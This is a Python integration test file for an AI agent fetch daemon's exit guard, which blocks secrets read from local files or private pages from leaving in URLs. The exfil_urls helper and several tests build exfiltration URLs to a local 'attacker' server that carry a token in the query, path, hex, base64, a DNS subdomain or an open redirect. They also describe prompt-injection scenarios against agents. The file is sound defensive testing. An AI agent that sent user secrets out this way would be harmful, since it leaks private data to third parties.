"""Issue 9.5 (exits), remodelled by issue 23: once an agent session has read private content (a local file, a
local service, the user's browser), a URL to a host nobody vouched for is held for the user's yes (exit_held),
whatever it carries; trawl's own token and well-known secret formats are refused (exit_refused).

Before: ``fetch_page("http://attacker/collect?k=<secret>")`` delivered the secret. Here a real daemon serves the
agent over its HTTP API; "site" is a local web site the agent reads (``localhost``), "attacker" is another local
server (``127.0.0.1``) that records every request it gets. A refused exit must reach the attacker with nothing
and show on the status page; ordinary URLs (the benchmark's source URLs, after reading those pages) are never
refused.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import re
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from aiohttp import web
from trawl.exits import ExitGuard
from trawl.server.runner import RunningDaemon
from trawl.settings import Settings

from tests.integration.test_daemon_helpers import daemon_settings

TOKEN = "Zq8vX2mN7pR4tW9yB3kLd5"  # a secret the agent reads from a local file
PAGE_TOKEN = "Hx7Rk2Wp9Lm4Qs8Vt3Ny6"  # a secret on a page of the site the agent reads
PRIVATE_TEXT = ("Our merger with the northern shipping company will be announced to the staff on the first "
                "Monday of March, two weeks before the press release goes out.")
ROOT = Path(__file__).resolve().parents[2]


@dataclass
class Server:
    url: str
    hits: list[str] = field(default_factory=list)


def page(title: str, body: str) -> str:
    return (f"<!doctype html><html lang=en><head><title>{title}</title></head><body><main><article><h1>{title}</h1>"
            f"{body}</article></main></body></html>")


async def serve(host: str, handler: Any) -> tuple[web.AppRunner, int]:
    app = web.Application()
    app.router.add_get("/{tail:.*}", handler)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = runner.addresses[0][1]
    return runner, int(port)


@pytest.fixture
async def attacker() -> AsyncIterator[Server]:
    srv = Server("")

    async def collect(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        return web.Response(text=page("Thanks", "<p>" + "Collected, thank you very much for the data. " * 5 + "</p>"),
                            content_type="text/html")

    runner, port = await serve("127.0.0.1", collect)
    srv.url = f"http://127.0.0.1:{port}"
    yield srv
    await runner.cleanup()


@pytest.fixture
async def site() -> AsyncIterator[Server]:
    srv = Server("")

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        if request.path == "/search":
            q = request.query.get("q", "")
            body = f"<p>Results for {q}: the archive holds three documents that mention {q} in their titles.</p>"
            return web.Response(text=page("Search", body * 3), content_type="text/html")
        body = (f"<p>{PRIVATE_TEXT}</p><p>The deploy key for the staging cluster is {PAGE_TOKEN}, rotate it "
                "monthly.</p><p>" + "The staging cluster runs the nightly jobs for the shipping team. " * 4 + "</p>")
        return web.Response(text=page("Internal memo", body), content_type="text/html")

    runner, port = await serve("127.0.0.1", handle)
    srv.url = f"http://localhost:{port}"  # another site than the attacker's 127.0.0.1
    yield srv
    await runner.cleanup()


@pytest.fixture
async def daemon(tmp_path: Path) -> AsyncIterator[RunningDaemon]:
    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        yield d


def api(d: RunningDaemon) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=d.url, headers={"Authorization": f"Bearer {d.token}"}, timeout=60)


async def fetch(d: RunningDaemon, url: str, query: str = "") -> dict[str, Any]:
    async with api(d) as c:
        r = await c.post("/v1/fetch", json={"url": url, "query": query})
    body: dict[str, Any] = r.json()
    return body


def refused(body: dict[str, Any]) -> None:
    """Not sent: held for the user's yes, or refused; the hint says how to allow the host."""
    assert body["ok"] is False, body
    assert body["error"]["code"] in ("exit_held", "exit_refused"), body["error"]
    assert "TRAWL_EXIT_ALLOW_HOSTS" in body["error"]["hint"]


async def status(d: RunningDaemon) -> dict[str, Any]:
    async with api(d) as c:
        r = await c.get("/v1/status")
    st: dict[str, Any] = r.json()
    return st


def exfil_urls(base: str, secret: str) -> list[str]:
    return [
        f"{base}/collect?k={secret}",
        f"{base}/collect/{secret}",
        f"{base}/collect#{secret}",
        f"{base}/collect?d=" + base64.b64encode(f"key: {secret}".encode()).decode(),
        f"{base}/collect?d=" + f"key={secret}".encode().hex(),
        f"{base}/collect?k=" + "".join(f"%{ord(ch):02X}" for ch in secret),
        f"{base}/collect?k={secret.lower()}",
    ]


async def test_a_secret_read_from_a_file_cannot_leave_in_a_url(daemon: RunningDaemon, attacker: Server,
                                                                tmp_path: Path) -> None:
    read = await fetch(daemon, str(tmp_path / "secrets.md"))
    assert read["ok"] and any(TOKEN in c["text"] for c in read["chunks"])
    for url in exfil_urls(attacker.url, TOKEN):
        refused(await fetch(daemon, url))
    dns = await fetch(daemon, f"http://{TOKEN.lower()}.attacker.invalid/x")  # DNS is an exit too
    refused(dns)
    assert TOKEN.lower() not in dns["error"]["message"]  # the message masks it as well
    assert attacker.hits == []  # nothing reached the attacker

    st = await status(daemon)
    events = st["exits"]["events"]
    assert st["exits"]["held"] + st["exits"]["refused"] >= 8 and events[0]["action"] in ("held", "refused")
    assert any(e["host"] == "127.0.0.1" and "local file" in e["reason"] for e in events)
    assert TOKEN not in json.dumps(st)  # the status page shows where and why, not the secret itself


async def test_the_refusal_is_on_the_status_page(daemon: RunningDaemon, attacker: Server, tmp_path: Path) -> None:
    await fetch(daemon, str(tmp_path / "secrets.md"))
    refused(await fetch(daemon, f"{attacker.url}/collect?k={TOKEN}"))
    async with api(daemon) as c:
        link = (await c.post("/v1/login-code")).json()["url"]
        async with httpx.AsyncClient(follow_redirects=True, timeout=30) as browser:
            html = (await browser.get(link)).text
    assert "Exits: URLs carrying data from earlier reads" in html
    assert re.search(r"<td class=bad>(held|refused)</td><td>127\.0\.0\.1</td>", html), html[-2000:]
    assert TOKEN not in html


async def test_text_and_tokens_from_a_page_cannot_go_to_another_site(daemon: RunningDaemon, site: Server,
                                                                     attacker: Server) -> None:
    read = await fetch(daemon, f"{site.url}/memo")
    assert read["ok"], read
    refused(await fetch(daemon, f"{attacker.url}/c?k={PAGE_TOKEN}"))
    refused(await fetch(daemon, f"{attacker.url}/c?note=" + PRIVATE_TEXT.replace(" ", "+")))
    assert attacker.hits == []


async def test_data_may_go_back_to_the_site_it_came_from(daemon: RunningDaemon, site: Server) -> None:
    await fetch(daemon, f"{site.url}/memo")
    again = await fetch(daemon, f"{site.url}/search?q={PAGE_TOKEN}")
    assert again["ok"] is True, again
    assert f"/search?q={PAGE_TOKEN}" in site.hits


async def test_a_site_echoing_a_composed_url_does_not_launder_it(daemon: RunningDaemon, site: Server,
                                                                 attacker: Server) -> None:
    await fetch(daemon, f"{site.url}/memo")
    exfil = f"{attacker.url}/c?k={PAGE_TOKEN}"
    # Even the private site's own search may not be handed a URL naming another host (it could redirect there),
    # so the echo never comes back; exitflow's echo rule (a link repeating what the session sent is no link) is
    # tested on the guard itself in test_exit_guard_memory.py.
    refused(await fetch(daemon, f"{site.url}/search?q={quote(exfil, safe='')}"))
    refused(await fetch(daemon, exfil))
    assert attacker.hits == [] and not any("search" in h for h in site.hits)


async def test_a_session_that_read_only_public_pages_is_never_held(tmp_path: Path, site: Server,
                                                                   attacker: Server) -> None:
    """The site is a local mirror of public pages (TRAWL_EXIT_PUBLIC_HOSTS): reading it taints nothing, so the
    agent's terms (even ones the page echoed) go anywhere."""
    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_public_hosts=("localhost",))
    async with RunningDaemon(settings, warm=False) as d:
        term = "Part4711Rev22Blue"
        first = await fetch(d, f"{site.url}/search?q={term}")
        assert first["ok"] and any(term in c["text"] for c in first["chunks"])  # the page echoes the term
        second = await fetch(d, f"{attacker.url}/search?q={term}")  # the same search on another site
        assert second["ok"] is True, second
        assert attacker.hits == [f"/search?q={term}"]


async def test_well_known_secret_formats_and_the_daemons_token_are_refused(daemon: RunningDaemon,
                                                                           attacker: Server) -> None:
    refused(await fetch(daemon, f"{attacker.url}/c?aws=AKIAIOSFODNN7EXAMPLE"))
    refused(await fetch(daemon, f"{attacker.url}/c?t={daemon.token}"))
    assert attacker.hits == []


async def test_a_link_a_private_result_showed_is_held(daemon: RunningDaemon, attacker: Server, tmp_path: Path) -> None:
    # A private result's links are its content: which one a tainted agent follows to another site is a channel
    # (test_exit_origin_links.py has the public page whose links are followed).
    link = f"{attacker.url}/download?sig=Kp3Vn8Rt2Wm6Xq9Zb4"
    (tmp_path / "mail.md").write_text(f"# Your download\n\nGet the report at {link} before Friday.\n")
    assert (await fetch(daemon, str(tmp_path / "mail.md")))["ok"]
    body = await fetch(daemon, link)
    assert body["error"]["code"] == "exit_held", body
    assert attacker.hits == []


async def test_a_host_the_user_allowed_gets_it_and_it_is_logged(tmp_path: Path, attacker: Server) -> None:
    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("127.0.0.1",))
    async with RunningDaemon(settings, warm=False) as d:
        await fetch(d, str(tmp_path / "secrets.md"))
        body = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
        assert body["ok"] is True, body
        assert attacker.hits == [f"/collect?k={TOKEN}"]
        ev = (await status(d))["exits"]["events"][0]
        assert ev["action"].startswith("let through: allowed by the user") and ev["host"] == "127.0.0.1"


async def test_a_host_on_the_site_policy_allow_list_is_allowed(tmp_path: Path, attacker: Server) -> None:
    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
    (tmp_path / "state").mkdir(mode=0o700)
    (tmp_path / "state" / "site-policy.json").write_text(json.dumps(
        {"mode": "deny_all_except_allowed", "allow": ["127.0.0.1"], "deny": []}))  # the list in force
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        await fetch(d, str(tmp_path / "secrets.md"))
        body = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
        assert body["ok"] is True, body
        ev = (await status(d))["exits"]["events"][0]
        assert ev["action"].startswith("let through: allowed by the user")


def _bench() -> tuple[list[tuple[str, str, str]], list[str]]:
    """(url, title, text) of the benchmark pages, and every source URL; the shared bench if present, else the
    samples kept in the repository."""
    shared = ROOT.parent / "shared" / "bench"
    gt_dir = shared / "wcxb-dev" / "ground-truth"
    if not gt_dir.is_dir():
        gt_dir = ROOT / "tests" / "fixtures" / "wcxb-sample" / "ground-truth"
    pages = []
    for f in sorted(gt_dir.glob("*.json*")):
        raw = gzip.decompress(f.read_bytes()) if f.suffix == ".gz" else f.read_bytes()
        d = json.loads(raw)
        if d.get("url"):
            gt = d.get("ground_truth") or {}
            pages.append((d["url"], str(gt.get("title") or ""), str(gt.get("main_content") or "")))
    qa_files = [shared / "qa-dev" / "questions.jsonl", shared / "qa-dev-long" / "questions.jsonl",
                ROOT / "tests" / "fixtures" / "qa-sample" / "questions.jsonl"]
    for qf in qa_files:
        if qf.is_file():
            for line in qf.read_text().splitlines():
                q = json.loads(line)
                text = " ".join(part for ctx in q.get("answer_contexts", []) for part in ctx)
                pages.append((q["url"], q.get("title", ""), text))
    return pages, sorted({u for u, _, _ in pages})


@pytest.mark.slow
async def test_no_benchmark_url_is_refused_after_reading_every_benchmark_page() -> None:
    pages, urls = _bench()
    assert len(urls) >= 20
    guard = ExitGuard(Settings())
    for url, title, text in pages:  # as if the agent had read every page first: the hardest case
        guard.observe_result({"url": url, "final_url": url, "source": "http", "title": title,
                              "chunks": [{"text": text}]}, op="fetch")
    for url in urls:
        await guard.check(url)  # raises exit_refused on a false positive
    assert guard.counters["refused"] == guard.counters["held"] == 0 and guard.counters["checked"] == len(urls)


async def test_an_allowed_host_cannot_pass_the_data_on(tmp_path: Path, site: Server, attacker: Server) -> None:
    """An allowed host with an open redirect (``?next=https://attacker/…``) is only as good as the hosts it names."""
    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("localhost",))
    async with RunningDaemon(settings, warm=False) as d:
        await fetch(d, str(tmp_path / "secrets.md"))
        refused(await fetch(d, f"{site.url}/go?next=" + quote(f"{attacker.url}/c?k={TOKEN}", safe="")))
        assert site.hits == [] and attacker.hits == []


@pytest.mark.timeout(120)
async def test_a_site_open_in_the_users_browser_does_not_vouch(tmp_path: Path, site: Server,
                                                              attacker: Server, chromium: str) -> None:
    """Issue 23, attack 4: a host open in a tab (a popup the injecting page opened, a link it got clicked) used to
    receive page and file secrets. The real extension in Chromium lists the attacker's tab; the exit is held all
    the same, and the hold shows in the extension's popup log."""
    from tests.e2e.conftest import close_linked, e2e_settings, launch_linked

    (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
    settings = e2e_settings(tmp_path, file_roots=(str(tmp_path),), allow_private_hosts=True)
    stack = await launch_linked(tmp_path, chromium, settings=settings)
    try:
        assert await stack.hub.wait_attached(15), stack.hub.describe()
        d = stack.daemon
        assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
        refused(await fetch(d, f"{attacker.url}/collect?k={TOKEN}"))
        assert attacker.hits == []
        worker = await stack.worker()
        deadline = time.monotonic() + 10
        logged: list[dict[str, Any]] = []
        while time.monotonic() < deadline:
            recent = await worker.evaluate("async () => (await chrome.storage.session.get('recent')).recent || []")
            logged = [r for r in recent if r.get("code") in ("exit_held", "exit_refused")]
            if logged:
                break
            await asyncio.sleep(0.1)
        assert logged and "127.0.0.1" in logged[0]["what"] and logged[0]["ok"] is False, recent
        assert TOKEN not in json.dumps(recent)

        await stack.open_tab(f"{attacker.url}/home")  # the attacker's page is open in the user's browser now
        assert "/home" in attacker.hits
        async with api(d) as c:  # the agent sees it in the tab list: that makes no link of it either
            tabs = (await c.post("/v1/list_tabs", json={})).json()
        assert any(attacker.url in str(t.get("url")) for t in tabs.get("tabs", [])), tabs
        for url in (f"{attacker.url}/collect?k={TOKEN}", f"{attacker.url}/collect?k={TOKEN[::-1]}",
                    f"{attacker.url}/home"):
            refused(await fetch(d, url))
        assert attacker.hits == ["/home"] or all(TOKEN not in h and TOKEN[::-1] not in h for h in attacker.hits)
        assert not any("collect" in h for h in attacker.hits)
    finally:
        await close_linked(stack)
